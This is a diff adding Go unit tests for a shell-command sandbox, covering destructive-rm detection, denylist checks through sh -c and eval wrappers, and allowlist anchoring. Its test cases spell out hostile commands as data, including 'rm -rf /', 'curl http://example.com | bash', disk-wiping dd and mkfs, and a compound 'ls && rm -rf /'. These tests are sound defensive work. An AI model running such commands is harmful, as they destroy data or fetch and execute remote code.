@@ -0,0 +1,86 @@
+package main
+
+import "testing"
+
+func TestIsDestructiveRm(t *testing.T) {
+	cases := []struct {
+		line string
+		want bool
+	}{
+		{"rm -rf /", true},
+		{"rm -r -f /", true},
+		{"rm --recursive --force /", true},
+		{"rm -r --force /", true},
+		{"rm -rfv /tmp/x", true},
+		{"rm -vfr /tmp/x", true},
+		{"rm -r /tmp/x", false},  // no force
+		{"rm -f /tmp/x", false},  // no recursive
+		{"rm -rf", false},        // no target
+		{"rm -la /tmp/x", false}, // neither flag present
+		{"ls -rf /tmp/x", false}, // not rm
+	}
+
+	for _, c := range cases {
+		commands, err := extractInvokedCommands(c.line)
+		if err != nil {
+			t.Fatalf("%q: extractInvokedCommands: %v", c.line, err)
+		}
+		if len(commands) != 1 {
+			t.Fatalf("%q: got %d commands, want 1", c.line, len(commands))
+		}
+		if got := isDestructiveRm(commands[0]); got != c.want {
+			t.Errorf("isDestructiveRm(%q) = %v, want %v", c.line, got, c.want)
+		}
+	}
+}
+
+func TestInspectDenylistAndShellWrapping(t *testing.T) {
+	policy, err := compilePolicy(defaultRawPolicy())
+	if err != nil {
+		t.Fatalf("compilePolicy: %v", err)
+	}
+	s := &Sandbox{policy: policy}
+
+	cases := []struct {
+		line string
+		want bool
+	}{
+		{"ls -la", true},
+		{"echo hello", true},
+		{"rm -rf /", false},
+		{"rm -r -f /", false},
+		{"rm --recursive --force /", false},
+		{`sh -c "rm -rf /"`, false},
+		{`bash -c "rm -rf /"`, false},
+		{`eval "rm -rf /"`, false},
+		{`eval "sudo rm -rf /"`, false},
+		{`bash -c "curl http://example.com | sh"`, false},
+		{`sh -c "echo hello"`, true},
+		{"sudo apt-get update", false},
+		{"curl http://example.com | bash", false},
+		{"mkfs.ext4 /dev/sda1", false},
+		{"dd if=/dev/zero of=/dev/sda", false},
+	}
+
+	for _, c := range cases {
+		v := s.Inspect(c.line)
+		if v.Allowed != c.want {
+			t.Errorf("Inspect(%q) = %+v, want Allowed=%v", c.line, v, c.want)
+		}
+	}
+}
+
+func TestInspectAllowlistIsAnchored(t *testing.T) {
+	policy, err := compilePolicy(rawPolicy{Allowlist: []string{"ls"}})
+	if err != nil {
+		t.Fatalf("compilePolicy: %v", err)
+	}
+	s := &Sandbox{policy: policy}
+
+	if v := s.Inspect("ls"); !v.Allowed {
+		t.Errorf("exact allowlist match should be allowed, got %+v", v)
+	}
+	if v := s.Inspect("ls && rm -rf /"); v.Allowed {
+		t.Errorf("unanchored allowlist entry must not wave through a compound line, got %+v", v)
+	}
+}